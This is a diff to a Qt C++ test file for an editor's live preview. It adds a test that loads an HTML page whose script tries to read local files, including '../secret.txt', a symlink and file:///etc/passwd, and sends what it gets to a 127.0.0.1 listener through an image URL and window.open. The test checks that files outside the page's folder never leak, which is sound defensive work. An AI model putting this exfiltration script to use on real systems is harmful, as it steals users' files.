@@ -1,6 +1,7 @@
 // The live preview in the frame: View, Live Preview (F6) in both menu trees,
-// the dock following the active page, the choice kept in the settings. On a
-// real display (e2e_live_preview) the keys are pressed through the X server.
+// the dock following the active page, the choice kept in the settings, and
+// pages that try to send files away. On a real display (e2e_live_preview)
+// the keys and clicks go through the X server.
 #include "StartedFrame.h"
 
 #include "browser/BrowserEngine.h"
@@ -18,6 +19,11 @@
 #include <QApplication>
 #include <QMdiArea>
 #include <QMenu>
+#include <QProcess>
+#include <QStandardPaths>
+#include <QTcpServer>
+#include <QTcpSocket>
+#include <QTemporaryDir>
 #include <QtTest>
 
 using namespace tw;
@@ -50,17 +56,22 @@ void typeText(QWidget *target, const QString &text)
         QTest::keyClicks(target, text);
 }
 
-QString shownText(LiveArea *area)
+QString scriptResult(LiveArea *area, const QString &script)
 {
     QString text;
     QEventLoop loop;
-    area->runScript(QStringLiteral("document.body ? document.body.innerText : ''"), [&](const QVariant &v) {
+    area->runScript(script, [&](const QVariant &v) {
         text = v.toString();
         loop.quit();
     });
     QTimer::singleShot(kLoad, &loop, &QEventLoop::quit); // a guard
     loop.exec();
     return text.trimmed();
+}
+
+QString shownText(LiveArea *area)
+{
+    return scriptResult(area, QStringLiteral("document.body ? document.body.innerText : ''"));
 }
 
 QAction *item(QMenu *menu)
@@ -168,6 +179,75 @@ private slots:
         frame->commands().viewLivePreview->trigger();
         QVERIFY(!dock->isVisible());
         QVERIFY(!editorSettings::livePreview());
+    }
+
+    // A page in the live preview tries to carry files' text to a listener on
+    // 127.0.0.1: by a picture as it loads (local pages take nothing from the
+    // web), and by a window at the user's first click in the preview. What
+    // its folder holds may arrive; a file beside the folder, behind a
+    // symbolic link or elsewhere never does.
+    void pagesCarryNoFileOut()
+    {
+        QTcpServer listener;
+        QVERIFY(listener.listen(QHostAddress::LocalHost));
+        QByteArray heard;
+        connect(&listener, &QTcpServer::newConnection, &listener, [&] {
+            while (QTcpSocket *socket = listener.nextPendingConnection())
+                connect(socket, &QTcpSocket::readyRead, socket, [&heard, socket] {
+                    heard += socket->readAll();
+                    if (heard.contains("\r\n\r\n") && socket->property("answered").isNull()) {
+                        socket->setProperty("answered", true);
+                        socket->write("HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n<title>heard</title>");
+                        socket->disconnectFromHost();
+                    }
+                });
+        });
+        QDir(m_dir.path()).mkpath(QStringLiteral("leak/site"));
+        const QString leak = m_dir.filePath(QStringLiteral("leak"));
+        QVERIFY(test::writeBytes(leak + "/secret.txt", "hidden-words"));
+        QVERIFY(test::writeBytes(leak + "/site/in.txt", "folder-words"));
+        QVERIFY(QFile::link(leak + "/secret.txt", leak + "/site/link.txt"));
+        const QString page = leak + "/site/page.htm";
+        QVERIFY(test::writeBytes(page, QStringLiteral(R"(<body style="margin:0;height:100vh"><p>leak</p><script>
+const to = 'http://127.0.0.1:%1/';
+const tries = ['in.txt', '../secret.txt', 'link.txt', 'file://%2/secret.txt', 'twlive:%2/secret.txt',
+               'file:///etc/passwd'];
+let got = '';
+const xhr = u => new Promise(done => { const x = new XMLHttpRequest(); x.onload = () => done(x.responseText);
+  x.onerror = () => done(''); try { x.open('GET', u); x.send(); } catch (e) { done(''); } });
+Promise.all(tries.map(xhr).concat(tries.map(u => fetch(u).then(r => r.text()).catch(() => ''))))
+  .then(texts => { got = encodeURIComponent(texts.join('|')); new Image().src = to + 'load?' + got;
+                   document.title = 'ready'; });
+document.addEventListener('click', () => window.open(to + 'click?' + got));
+</script>)").arg(listener.serverPort()).arg(leak).toUtf8()));
+
+        editorSettings::setLivePreview(true);
+        auto frame = test::startFrame(m_dialogs);
+        frame->openFiles({page});
+        auto *dock = frame->findChild<LivePreviewDock *>();
+        QVERIFY(dock);
+        QTRY_VERIFY_WITH_TIMEOUT(dock->isVisible() && dock->area(), kLoad);
+        QTRY_VERIFY_WITH_TIMEOUT(shownText(dock->area()) == QLatin1String("leak"), kLoad);
+        QTRY_COMPARE_WITH_TIMEOUT(scriptResult(dock->area(), QStringLiteral("document.title")), QStringLiteral("ready"), kLoad);
+
+        QWidget *view = dock->area()->widget();
+        const QPoint at = view->mapToGlobal(view->rect().center());
+        if (onX()) {
+            QCOMPARE(QProcess::execute(QStringLiteral("xdotool"), {QStringLiteral("mousemove"), QString::number(at.x()),
+                                                                  QString::number(at.y()), QStringLiteral("click"),
+                                                                  QStringLiteral("1")}),
+                     0);
+        } else {
+            QWidget *input = view->focusProxy();
+            QVERIFY(input);
+            const QPoint local = input->mapFromGlobal(at);
+            QTest::mouseMove(input, local);
+            QTest::mouseClick(input, Qt::LeftButton, {}, local);
+        }
+        QTRY_VERIFY_WITH_TIMEOUT(heard.contains("GET /click?"), kLoad);
+        QVERIFY2(heard.contains("folder-words") && !heard.contains("GET /load?"), heard.constData());
+        QVERIFY2(!heard.contains("hidden-words") && !heard.contains("root%3A"), heard.constData());
+        editorSettings::setLivePreview(false);
     }
 };
 
